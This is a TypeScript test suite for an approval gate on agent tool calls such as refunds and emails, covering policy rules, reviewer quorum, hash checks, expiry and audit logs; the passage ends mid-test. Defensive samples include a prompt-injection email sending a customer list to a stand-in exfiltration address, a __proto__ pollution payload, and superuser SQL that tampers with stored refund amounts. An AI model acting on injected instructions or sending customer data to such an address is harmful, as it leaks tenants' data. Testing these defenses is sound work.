import { Client } from "pg";
import { describe, expect, it } from "vitest";
import { setUpTestDatabase, setUpTestTenant } from "@/tests/fixtures";
import { refusal } from "@/tests/refusal";
import { createDb } from "@/lib/db/client";
import { createTestTenant, type TestTenant } from "@/tests/factories";
import { expectEventsToFitTheirSchemas } from "@/tests/audit-schemas";
import { proposeAction } from "@/lib/approvals/propose-action";
import { decideAction } from "@/lib/approvals/decide-action";
import { editAction } from "@/lib/approvals/edit-action";
import { executeAction } from "@/lib/approvals/execute-action";
import { cancelAction } from "@/lib/approvals/cancel-action";
import { createApiKey } from "@/lib/api-keys/create-api-key";
import { revokeApiKey } from "@/lib/api-keys/revoke-api-key";
import { queuedBehind, whileActionLocked } from "@/tests/action-lock";
import { apiKeyLabel } from "@/lib/api-keys/api-key-summary";
import { expireDueActions } from "@/lib/approvals/expire-actions";
import { verifyAuditChain } from "@/lib/audit/verify-audit-chain";
import { sealAuditChain } from "@/lib/audit/seal-audit-chain";
import { DEFAULT_POLICY } from "@/lib/policy/default-policy";
import { INJECTION_NOTE } from "@/lib/demo/seed";

const t = setUpTestDatabase();
const a = setUpTestTenant(t);
const b = setUpTestTenant(t);

const actorOf = (tenant: TestTenant) => ({ type: "user" as const, id: tenant.users.requester.id, label: tenant.users.requester.email });

async function pendingRefund(tenant: TestTenant, amountMinor: number, invoice = "INV-1044") {
  const outcome = await proposeAction(t.db, {
    tenantId: tenant.id, requester: tenant.requester, tool: "refund_invoice",
    args: { invoice_number: invoice, amount_minor: amountMinor, reason: "Customer overpaid" },
  });
  if (outcome.state !== "pending") throw new Error(`expected pending, got ${outcome.state}`);
  return outcome;
}

async function auditTypes(tenantId: string, actionId?: string) {
  const rows = await t.db.auditEvent.findMany({ where: { tenantId, ...(actionId ? { actionId } : {}) }, orderBy: { id: "asc" } });
  return rows.map((r) => r.type);
}

describe("proposals", () => {
  it("runs an allowed read at once and records it", async () => {
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "get_invoice", args: { invoice_number: "INV-1042" },
    });
    expect(outcome.state).toBe("allowed");
    if (outcome.state !== "allowed") return;
    expect(outcome.execution.state).toBe("succeeded");
    expect(outcome.execution.result).toMatchObject({ invoice_number: "INV-1042", amount_due_minor: 2_500_000, status: "open" });
    expect(await auditTypes(a.id, outcome.actionId)).toEqual(["action.proposed", "execution.started", "execution.succeeded"]);
  });

  it("queues a reminder email with the TOCTOU snapshot and the policy rule that matched", async () => {
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email",
      args: { to: "billing@acme.example", subject: "Reminder", body: "INV-1042 is overdue.", invoice_number: "INV-1042" },
    });
    expect(outcome.state).toBe("pending");
    const action = await t.db.action.findUniqueOrThrow({ where: { id: outcome.actionId }, include: { snapshots: true, revisions: true } });
    expect(action.snapshots[0].data).toEqual({
      invoice: { status: "open", currency: "USD", amount_due_minor: 2_500_000, customer_ref: "CUST-001" },
      customer: { ref: "CUST-001", verified_domains: ["acme.example"], opt_out: false },
    });
    expect(action.revisions[0].policyDecision).toMatchObject({ effect: "require_approval", ruleId: "send-email-verified" });
    expect(action.eligibleRoles).toEqual(["reviewer"]);
  });

  it("denies a refund above the policy's hard limit without asking anyone", async () => {
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "refund_invoice",
      args: { invoice_number: "INV-1044", amount_minor: 6_000_000, reason: "Too much" },
    });
    expect(outcome).toMatchObject({ state: "denied", ruleId: "refund-over-limit" });
  });

  it.each([
    ["an unknown key", { invoice_number: "INV-1042", extra: true }, "invalid_args"],
    ["a missing key", {}, "invalid_args"],
    // The tool's schema bounds the amount long before 2^53 (the API's strict JSON refuses 2^53 itself).
    ["a number beyond 2^53", { invoice_number: "INV-1044", amount_minor: 2 ** 60, reason: "x" }, "invalid_args"],
    ["a lone surrogate", { invoice_number: "INV-1044", amount_minor: 100, reason: "Customer overpaid \uD800" }, "invalid_payload.lone_surrogate"],
  ])("refuses %s, changes nothing, and audits the refusal", async (_label, args, code) => {
    const before = await t.db.action.count({ where: { tenantId: a.id } });
    const tool = code === "invalid_args" && "extra" in args ? "get_invoice" : "refund_invoice";
    const error = await proposeAction(t.db, { tenantId: a.id, requester: a.requester, tool, args }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeTruthy();
    const { toPublicError } = await import("@/lib/errors");
    expect(toPublicError(error, "test").body.code).toBe(code);
    expect(await t.db.action.count({ where: { tenantId: a.id } })).toBe(before);
    const last = await t.db.auditEvent.findFirst({ where: { tenantId: a.id }, orderBy: { id: "desc" } });
    expect(last).toMatchObject({ type: "action.refused", outcome: "refused" });
  });

  it("a policy saved elsewhere applies to the very next proposal, though this process had the old one in hand", async () => {
    const c = await createTestTenant(t.db);
    const propose = () =>
      proposeAction(t.db, {
        tenantId: c.id, requester: c.requester, tool: "refund_invoice",
        args: { invoice_number: "INV-1044", amount_minor: 10_000, reason: "Customer overpaid" },
      });
    expect((await propose()).state).toBe("pending");
    // Another process (say, an admin's request served elsewhere) saves version 2.
    const paused = {
      ...DEFAULT_POLICY, version: 2,
      tools: { ...DEFAULT_POLICY.tools, refund_invoice: { rules: [{ id: "refunds-paused", effect: "deny", tier: "critical", reason: "Refunds are paused." }] } },
    };
    await t.db.toolPolicy.create({ data: { tenantId: c.id, version: 2, document: paused as never } });
    const second = await propose();
    expect(second).toMatchObject({ state: "denied", ruleId: "refunds-paused" });
    const revision = await t.db.actionRevision.findFirstOrThrow({ where: { actionId: second.actionId } });
    expect(revision.policyVersion).toBe(2);
  });

  it("writes nothing for a member whose roles changed, or who was disabled, after the caller read them (a task reads them long before it proposes)", async () => {
    const c = await createTestTenant(t.db);
    const args = { invoice_number: "INV-1044", amount_minor: 1_000, reason: "Customer asked twice" };
    const before = await t.db.action.count({ where: { tenantId: c.id } });
    await t.db.membership.update({ where: { tenantId_userId: { tenantId: c.id, userId: c.users.requester.id } }, data: { roles: ["requester", "reviewer"] } });
    const changed = await refusal(proposeAction(t.db, { tenantId: c.id, requester: c.requester, tool: "refund_invoice", args }));
    expect(changed).toMatchObject({ code: "requester_changed", status: 409 });
    // With the roles the database holds, the same member proposes.
    const current = { ...c.requester, roles: ["reviewer", "requester"] } as typeof c.requester;
    expect((await proposeAction(t.db, { tenantId: c.id, requester: current, tool: "refund_invoice", args })).state).toBe("pending");
    await t.db.user.update({ where: { id: c.users.requester.id }, data: { disabledAt: new Date() } });
    expect(await refusal(proposeAction(t.db, { tenantId: c.id, requester: current, tool: "refund_invoice", args }))).toMatchObject({ code: "requester_changed" });
    expect(await t.db.action.count({ where: { tenantId: c.id } })).toBe(before + 1);
    expect(await t.db.auditEvent.count({ where: { tenantId: c.id, type: "action.refused" } })).toBe(2);
  });

  it("refuses a __proto__ key before anything else sees it", async () => {
    const args = JSON.parse('{"invoice_number":"INV-1042","__proto__":{"polluted":true}}');
    const error = await refusalOrThrow(proposeAction(t.db, { tenantId: a.id, requester: a.requester, tool: "get_invoice", args }));
    expect(String(error)).toMatch(/__proto__/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("refuses a NUL character in the arguments or the stated reason with its place named, and audits the refusal", async () => {
    const before = await t.db.action.count({ where: { tenantId: a.id } });
    const email = { to: "billing@acme.example", subject: "Reminder", body: "Due soon", invoice_number: "INV-1042" };
    const inArgs = await refusalOrThrow(proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email", args: { ...email, subject: "Re\u0000minder" },
    }));
    expect(inArgs).toMatchObject({ code: "nul_character", path: "subject" });
    const inReason = await refusalOrThrow(proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email", args: email, reason: "because\u0000",
    }));
    expect(inReason).toMatchObject({ code: "nul_character", path: "reason" });
    expect(await t.db.action.count({ where: { tenantId: a.id } })).toBe(before);
    const refusals = await t.db.auditEvent.findMany({ where: { tenantId: a.id, type: "action.refused" }, orderBy: { id: "desc" }, take: 2 });
    expect(refusals.map((e) => (e.data as { code: string }).code)).toEqual(["invalid_payload.nul_character", "invalid_payload.nul_character"]);
  });

  it("tags the prompt-injection email critical and routes it to the two-reviewer critical rule", async () => {
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email",
      args: {
        to: "audit-desk@exfil-mail.example", subject: "Customer list",
        body: `As requested: ${INJECTION_NOTE}\nAcme Corporation billing@acme.example 25,000.00`,
        invoice_number: "INV-1046",
      },
      untrustedValues: [INJECTION_NOTE],
    });
    expect(outcome.state).toBe("pending");
    const action = await t.db.action.findUniqueOrThrow({ where: { id: outcome.actionId }, include: { revisions: true } });
    expect(action.riskLevel).toBe("critical");
    const tags = (action.revisions[0].riskTags as Array<{ id: string }>).map((tag) => tag.id);
    expect(tags).toEqual(expect.arrayContaining(["recipient.outside-domain", "provenance.untrusted", "exfiltration.outside-recipient"]));
    expect(action.revisions[0].policyDecision).toMatchObject({ ruleId: "send-email-critical-risk", tier: "critical", quorum: 2 });
    expect(action.quorum).toBe(2);
  });
});

async function refusalOrThrow(p: Promise<unknown>): Promise<unknown> {
  return p.then(
    () => {
      throw new Error("expected a refusal");
    },
    (e: unknown) => e,
  );
}

describe("decisions", () => {
  it("refuses self-approval, the wrong role, another tenant and a stale hash — and audits each", async () => {
    const p = await pendingRefund(a, 45_000, "INV-1043");
    const base = { tenantId: a.id, actionId: p.actionId, verdict: "approve" as const, payloadHash: p.payloadHash };
    expect((await refusal(decideAction(t.db, { ...base, reviewer: a.users.requester.member }))).code).toBe("not_eligible");
    // The requester also holds the reviewer role: still not their own request.
    await t.db.membership.updateMany({ where: { tenantId: a.id, userId: a.users.requester.id }, data: { roles: ["requester", "reviewer"] } });
    const selfReviewer = { ...a.users.requester.member, roles: ["requester" as const, "reviewer" as const] };
    expect((await refusal(decideAction(t.db, { ...base, reviewer: selfReviewer }))).code).toBe("self_approval");
    await t.db.membership.updateMany({ where: { tenantId: a.id, userId: a.users.requester.id }, data: { roles: ["requester"] } });
    expect((await refusal(decideAction(t.db, { ...base, reviewer: a.users.auditor.member }))).code).toBe("not_eligible");
    expect((await refusal(decideAction(t.db, { ...base, tenantId: b.id, reviewer: b.users.reviewer.member }))).code).toBe("not_found");
    expect((await refusal(decideAction(t.db, { ...base, payloadHash: "0".repeat(64), reviewer: a.users.reviewer.member }))).code).toBe("stale_hash");
    expect((await refusal(decideAction(t.db, { ...base, verdict: "reject", reviewer: a.users.reviewer.member }))).code).toBe("reason_required");

    const action = await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } });
    expect(action.status).toBe("pending");
    expect(await t.db.decision.count({ where: { actionId: p.actionId } })).toBe(0);
    const refused = await t.db.auditEvent.findMany({ where: { tenantId: a.id, type: "decision.refused", subjectId: p.actionId } });
    expect(refused.map((r) => r.status)).toEqual(["not_eligible", "self_approval", "not_eligible", "stale_hash", "reason_required"]);
    // The other tenant's refusal lands in the other tenant's log, naming nothing of tenant A.
    expect(await t.db.auditEvent.count({ where: { tenantId: b.id, type: "decision.refused", status: "not_found" } })).toBe(1);
  });

  it("needs two distinct reviewers for a large refund; a second vote by the same reviewer does not count", async () => {
    const p = await pendingRefund(a, 1_000_000);
    expect(p.quorum).toBe(2);
    const vote = (reviewer: TestTenant["users"]["reviewer"]) =>
      decideAction(t.db, { tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: reviewer.member });
    expect(await vote(a.users.reviewer)).toMatchObject({ status: "pending", approvals: 1, quorum: 2 });
    expect((await refusal(vote(a.users.reviewer))).code).toBe("already_voted");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("pending");
    expect(await vote(a.users.reviewer2)).toMatchObject({ status: "approved", approvals: 2 });
  });

  it("the vote reads roles and requester from the database, whatever the caller passes in", async () => {
    const c = await createTestTenant(t.db);
    const p = await pendingRefund(c, 45_000, "INV-1043");
    const base = { tenantId: c.id, actionId: p.actionId, verdict: "approve" as const, payloadHash: p.payloadHash };
    await t.db.membership.updateMany({ where: { tenantId: c.id, userId: c.users.reviewer.id }, data: { roles: ["auditor"] } });
    expect((await refusal(decideAction(t.db, { ...base, reviewer: c.users.reviewer.member }))).code).toBe("not_eligible");
    await t.db.membership.updateMany({ where: { tenantId: c.id, userId: c.users.reviewer.id }, data: { roles: ["reviewer"] } });
    await t.db.$executeRaw`UPDATE "Action" SET "requesterUserId" = ${c.users.reviewer.id}::uuid WHERE id = ${p.actionId}::uuid`;
    expect((await refusal(decideAction(t.db, { ...base, reviewer: c.users.reviewer.member }))).code).toBe("self_approval");
    expect(await t.db.decision.count({ where: { actionId: p.actionId } })).toBe(0);
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("pending");
  });

  it("another process on the same database decides and executes a proposal it never saw", async () => {
    const p = await pendingRefund(a, 1_000_000);
    const other = createDb(t.url, { max: 4 });
    try {
      const vote = (reviewer: TestTenant["users"]["reviewer"]) =>
        decideAction(other, { tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: reviewer.member });
      expect(await vote(a.users.reviewer)).toMatchObject({ status: "pending", approvals: 1, quorum: 2 });
      expect((await refusal(vote(a.users.reviewer))).code).toBe("already_voted");
      expect(await vote(a.users.reviewer2)).toMatchObject({ status: "approved", approvals: 2 });
      const outcome = await executeAction(other, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) });
      expect(outcome.state).toBe("succeeded");
    } finally {
      await other.$disconnect();
    }
    expect(await t.db.refund.count({ where: { idempotencyKey: { startsWith: "cs1_" }, invoice: { number: "INV-1044", tenantId: a.id } } })).toBeGreaterThan(0);
  });

  it("refuses a note with a NUL character in words, records no vote, and audits the refusal", async () => {
    const p = await pendingRefund(a, 10_000, "INV-1043");
    const error = await refusalOrThrow(decideAction(t.db, {
      tenantId: a.id, actionId: p.actionId, verdict: "reject", note: "Wrong\u0000customer", payloadHash: p.payloadHash, reviewer: a.users.reviewer.member,
    }));
    expect(error).toMatchObject({ code: "nul_character", path: "note" });
    expect(await t.db.decision.count({ where: { actionId: p.actionId } })).toBe(0);
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("pending");
    const refused = await t.db.auditEvent.findFirstOrThrow({ where: { tenantId: a.id, type: "decision.refused", subjectId: p.actionId } });
    expect(refused).toMatchObject({ status: "invalid_payload.nul_character", reviewerId: a.users.reviewer.id });
  });

  it("a revision's approval window is the policy's, also for a revision made by an edit", async () => {
    const shortLived = {
      ...DEFAULT_POLICY,
      tools: { ...DEFAULT_POLICY.tools, refund_invoice: { rules: [{ id: "refund-quick", effect: "require_approval" as const, ttlSeconds: 60, reason: "Decide refunds quickly." }] } },
    };
    const c = await createTestTenant(t.db, { policy: shortLived });
    const p = await pendingRefund(c, 1_500, "INV-1043");
    const windowOf = async () => {
      const [row] = await t.db.$queryRaw<Array<{ seconds: number }>>`
        SELECT extract(epoch FROM ("expiresAt" - now()))::float8 AS seconds FROM "Action" WHERE id = ${p.actionId}::uuid`;
      return row.seconds;
    };
    expect(await windowOf()).toBeGreaterThan(50);
    expect(await windowOf()).toBeLessThanOrEqual(60);
    await editAction(t.db, {
      tenantId: c.id, actionId: p.actionId, editor: c.users.reviewer.member, payloadHash: p.payloadHash,
      args: { invoice_number: "INV-1043", amount_minor: 1_400, reason: "Customer overpaid" },
    });
    expect(await windowOf()).toBeGreaterThan(50);
    expect(await windowOf()).toBeLessThanOrEqual(60);
  });

  it("a rejection with a reason rejects, and nothing can execute it", async () => {
    const p = await pendingRefund(a, 10_000, "INV-1043");
    const out = await decideAction(t.db, {
      tenantId: a.id, actionId: p.actionId, verdict: "reject", note: "Wrong customer", payloadHash: p.payloadHash, reviewer: a.users.reviewer.member,
    });
    expect(out.status).toBe("rejected");
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("not_executable.rejected");
  });
});

describe("revisions", () => {
  it("an edit creates revision 2 with a diff; votes on revision 1 are void and its approval cannot execute", async () => {
    const p = await pendingRefund(a, 20_000, "INV-1043");
    await decideAction(t.db, { tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: a.users.reviewer.member });
    const next = await editAction(t.db, {
      tenantId: a.id, actionId: p.actionId, editor: a.users.reviewer2.member, payloadHash: p.payloadHash,
      args: { invoice_number: "INV-1043", amount_minor: 15_000, reason: "Customer overpaid" },
    });
    expect(next).toMatchObject({ revision: 2, status: "pending" });
    expect(next.payloadHash).not.toBe(p.payloadHash);
    const rev2 = await t.db.actionRevision.findFirstOrThrow({ where: { actionId: p.actionId, revision: 2 } });
    expect(rev2.diff).toMatchObject({ fields: [{ path: "amount_minor", change: "changed", before: 20_000, after: 15_000 }] });
    expect(await t.db.decision.count({ where: { actionId: p.actionId, void: true } })).toBe(1);

    // The old approval's hash no longer executes anything, and votes on it are refused.
    expect((await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }))).code)
      .toBe("hash_mismatch");
    expect((await refusal(decideAction(t.db, {
      tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: a.users.reviewer3.member,
    }))).code).toBe("stale_hash");
    // The editor cannot approve their own revision; another reviewer can.
    expect((await refusal(decideAction(t.db, {
      tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: next.payloadHash, reviewer: a.users.reviewer2.member,
    }))).code).toBe("own_edit");
    await decideAction(t.db, { tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: next.payloadHash, reviewer: a.users.reviewer.member });
    const done = await executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: next.payloadHash, executor: { type: "requester" }, actor: actorOf(a) });
    expect(done.state).toBe("succeeded");
    const refunds = await t.db.refund.findMany({ where: { tenantId: a.id, amountMinor: 15_000 } });
    expect(refunds).toHaveLength(1);
  });

  it("an action whose window closed is not edited back to life before the sweeper marks it expired (audited, no revision)", async () => {
    const p = await pendingRefund(a, 21_000, "INV-1043");
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() - interval '1 millisecond' WHERE id = ${p.actionId}::uuid`;
    const error = await refusal(editAction(t.db, {
      tenantId: a.id, actionId: p.actionId, editor: a.users.reviewer2.member, payloadHash: p.payloadHash,
      args: { invoice_number: "INV-1043", amount_minor: 15_000, reason: "Customer overpaid" },
    }));
    expect(error).toMatchObject({ code: "expired", status: 409 });
    expect(await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).toMatchObject({ status: "pending", currentRevision: 1 });
    expect(await t.db.actionRevision.count({ where: { actionId: p.actionId } })).toBe(1);
    expect(await t.db.auditEvent.count({ where: { tenantId: a.id, type: "action.edit_refused", status: "expired" } })).toBe(1);
  });
});

describe("execution", () => {
  async function approved(tenant: TestTenant, amountMinor: number, invoice = "INV-1044") {
    const p = await pendingRefund(tenant, amountMinor, invoice);
    await decideAction(t.db, { tenantId: tenant.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: tenant.users.reviewer.member });
    return p;
  }

  it("executes once; a replay of the consumed approval is refused with the recorded result", async () => {
    const p = await approved(a, 5_000);
    const first = await executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) });
    expect(first.state).toBe("succeeded");
    const replay = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(replay.code).toBe("already_executed");
    expect(replay.details).toMatchObject({ execution: { id: first.executionId, status: "succeeded" } });
    expect(await t.db.refund.count({ where: { tenantId: a.id, amountMinor: 5_000 } })).toBe(1);
    expect(await auditTypes(a.id, p.actionId)).toContain("execution.succeeded");
  });

  it("refuses an approval presented in another tenant", async () => {
    const p = await approved(a, 6_000);
    const error = await refusal(executeAction(t.db, { tenantId: b.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(b) }));
    expect(error.code).toBe("not_found");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("approved");
  });

  it("refuses and invalidates when the stored args were tampered with behind the app's back (triggers off, as a superuser could)", async () => {
    const p = await approved(a, 7_000);
    // As the owner: the app role may not switch triggers off.
    await t.ownerDb.$transaction([
      t.ownerDb.$executeRaw`ALTER TABLE "ActionRevision" DISABLE TRIGGER USER`,
      t.ownerDb.$executeRaw`UPDATE "ActionRevision" SET args = jsonb_set(args, '{amount_minor}', '700000') WHERE "actionId" = ${p.actionId}::uuid`,
      t.ownerDb.$executeRaw`ALTER TABLE "ActionRevision" ENABLE TRIGGER USER`,
    ]);
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("hash_mismatch");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("invalidated");
    expect(await t.db.refund.count({ where: { tenantId: a.id, amountMinor: { in: [7_000, 700_000] } } })).toBe(0);
  });

  it("refuses when the tool was changed behind the app's back", async () => {
    const p = await approved(a, 8_000);
    await t.db.$executeRaw`UPDATE "Action" SET tool = 'cancel_invoice' WHERE id = ${p.actionId}::uuid`;
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("hash_mismatch");
  });

  it("refuses a hash the caller holds that is not the approved one", async () => {
    const p = await approved(a, 8_500);
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: "f".repeat(64), executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("hash_mismatch");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("approved");
  });

  it("invalidates and queues a fresh revision when the invoice changed between approval and execution", async () => {
    const p = await approved(a, 9_000);
    await t.db.invoice.updateMany({ where: { tenantId: a.id, number: "INV-1044" }, data: { amountPaidMinor: { increment: 1 }, version: { increment: 1 } } });
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("state_changed");
    const action = await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } });
    expect(action).toMatchObject({ status: "pending", currentRevision: 2, consumedAt: null });
    const rev2 = await t.db.actionRevision.findFirstOrThrow({ where: { actionId: p.actionId, revision: 2 } });
    const changed = (rev2.diff as { fields: Array<{ path: string }> }).fields.map((f) => f.path);
    // The field that moved, not the row's version counter.
    expect(changed).toEqual(["snapshot.invoice.amount_paid_minor"]);
    expect(await t.db.refund.count({ where: { tenantId: a.id, amountMinor: 9_000 } })).toBe(0);
    expect(await auditTypes(a.id, p.actionId)).toEqual(expect.arrayContaining(["action.invalidated", "action.revised"]));
  });

  it("expiry: a decision 1 ms after the deadline is refused as expired; 1 s before it is accepted", async () => {
    const late = await pendingRefund(a, 1_100, "INV-1043");
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() - interval '1 millisecond' WHERE id = ${late.actionId}::uuid`;
    const error = await refusal(decideAction(t.db, {
      tenantId: a.id, actionId: late.actionId, verdict: "approve", payloadHash: late.payloadHash, reviewer: a.users.reviewer.member,
    }));
    expect(error.code).toBe("expired");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: late.actionId } })).status).toBe("expired");

    const onTime = await pendingRefund(a, 1_200, "INV-1043");
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() + interval '1 second' WHERE id = ${onTime.actionId}::uuid`;
    const ok = await decideAction(t.db, {
      tenantId: a.id, actionId: onTime.actionId, verdict: "approve", payloadHash: onTime.payloadHash, reviewer: a.users.reviewer.member,
    });
    expect(ok.status).toBe("approved");
  });

  it("an approval whose window closed never executes; it is reported as expired, not rejected — by the execution or by the sweeper", async () => {
    const p = await approved(a, 1_300, "INV-1043");
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() - interval '1 millisecond' WHERE id = ${p.actionId}::uuid`;
    const error = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(error.code).toBe("expired");
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("expired");
    expect(await t.db.auditEvent.findFirst({ where: { actionId: p.actionId, type: "action.expired" } })).toMatchObject({ data: { detectedBy: "execution" } });
    expect(await t.db.refund.count({ where: { tenantId: a.id, amountMinor: 1_300 } })).toBe(0);

    const unswept = await approved(a, 1_301, "INV-1043");
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() - interval '1 millisecond' WHERE id = ${unswept.actionId}::uuid`;
    expect(await expireDueActions(t.db)).toBeGreaterThanOrEqual(1);
    expect((await t.db.action.findUniqueOrThrow({ where: { id: unswept.actionId } })).status).toBe("expired");
    expect((await refusal(executeAction(t.db, { tenantId: a.id, actionId: unswept.actionId, payloadHash: unswept.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }))).code)
      .toBe("expired");
  });

  it("cancel: only the API key that proposed the action, only before it expires", async () => {
    const newKey = async (name: string) => {
      const { apiKey } = await createApiKey(t.db, { tenantId: a.id, name, allowedTools: ["refund_invoice"], createdById: a.users.admin.id });
      const label = apiKeyLabel(apiKey.name);
      return { id: apiKey.id, requester: { type: "api_key" as const, apiKeyId: apiKey.id, label }, actor: { type: "api_key" as const, id: apiKey.id, label } };
    };
    const [key, otherKey] = [await newKey("canceller"), await newKey("other-agent")];
    const proposeRefund = async (amountMinor: number) => {
      const outcome = await proposeAction(t.db, {
        tenantId: a.id, requester: key.requester, tool: "refund_invoice", args: { invoice_number: "INV-1043", amount_minor: amountMinor, reason: "Customer overpaid" },
      });
      if (outcome.state !== "pending") throw new Error(`expected pending, got ${outcome.state}`);
      return outcome;
    };
    const p = await proposeRefund(1_400);
    const other = await refusal(cancelAction(t.db, { tenantId: a.id, actionId: p.actionId, actor: otherKey.actor, apiKeyId: otherKey.id }));
    expect(other).toMatchObject({ code: "forbidden", status: 403 });
    // Nor can any key withdraw what a member proposed.
    const members = await pendingRefund(a, 1_420, "INV-1043");
    expect(await refusal(cancelAction(t.db, { tenantId: a.id, actionId: members.actionId, actor: key.actor, apiKeyId: key.id }))).toMatchObject({ code: "forbidden" });
    expect(await t.db.action.count({ where: { id: { in: [p.actionId, members.actionId] }, status: "pending" } })).toBe(2);
    expect(await t.db.auditEvent.count({ where: { tenantId: a.id, type: "action.cancel_refused", status: "forbidden" } })).toBe(2);

    await cancelAction(t.db, { tenantId: a.id, actionId: p.actionId, actor: key.actor, apiKeyId: key.id });
    expect((await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } })).status).toBe("cancelled");

    // Past its window (database clock), before the sweeper marks it: expired, not cancelled.
    const late = await proposeRefund(1_450);
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() - interval '1 millisecond' WHERE id = ${late.actionId}::uuid`;
    const expired = await refusal(cancelAction(t.db, { tenantId: a.id, actionId: late.actionId, actor: key.actor, apiKeyId: key.id }));
    expect(expired).toMatchObject({ code: "expired", status: 409 });
    expect((await t.db.action.findUniqueOrThrow({ where: { id: late.actionId } })).status).toBe("pending");
    expect(await t.db.auditEvent.count({ where: { tenantId: a.id, type: "action.cancel_refused", status: "expired" } })).toBe(1);

    // A key revoked since the request was let in cancels nothing: the cancel checks the key itself.
    const kept = await proposeRefund(1_460);
    await revokeApiKey(t.db, { tenantId: a.id, id: key.id, actor: { type: "user", id: a.users.admin.id, label: a.users.admin.email } });
    const revoked = await refusal(cancelAction(t.db, { tenantId: a.id, actionId: kept.actionId, actor: key.actor, apiKeyId: key.id }));
    expect(revoked).toMatchObject({ code: "api_key_revoked", status: 401 });
    expect((await t.db.action.findUniqueOrThrow({ where: { id: kept.actionId } })).status).toBe("pending");
    expect(await t.db.auditEvent.count({ where: { tenantId: a.id, type: "action.cancel_refused", status: "api_key_revoked" } })).toBe(1);

    // Revoked while the cancel is on its way (waiting for the action's lock): refused all the same.
    const racing = await newKey("revoked-mid-cancel");
    const inFlight = await proposeAction(t.db, {
      tenantId: a.id, requester: racing.requester, tool: "refund_invoice", args: { invoice_number: "INV-1043", amount_minor: 1_470, reason: "Customer overpaid" },
    });
    const cancelling = await whileActionLocked(t.url, inFlight.actionId, async (waiters) => {
      const run = cancelAction(t.db, { tenantId: a.id, actionId: inFlight.actionId, actor: racing.actor, apiKeyId: racing.id }).then(() => null, (error: unknown) => error);
      await waiters(1);
      await revokeApiKey(t.db, { tenantId: a.id, id: racing.id, actor: { type: "user", id: a.users.admin.id, label: a.users.admin.email } });
      return { run };
    });
    expect(await cancelling.run).toMatchObject({ code: "api_key_revoked" });
    expect((await t.db.action.findUniqueOrThrow({ where: { id: inFlight.actionId } })).status).toBe("pending");

    // A revocation under way when the cancel reaches the key: the cancel waits for it, and then refuses.
    const third = await newKey("revoked-while-locked");
    const waiting = await proposeAction(t.db, {
      tenantId: a.id, requester: third.requester, tool: "refund_invoice", args: { invoice_number: "INV-1043", amount_minor: 1_480, reason: "Customer overpaid" },
    });
    const revoker = new Client({ connectionString: t.url });
    await revoker.connect();
    try {
      await revoker.query("BEGIN");
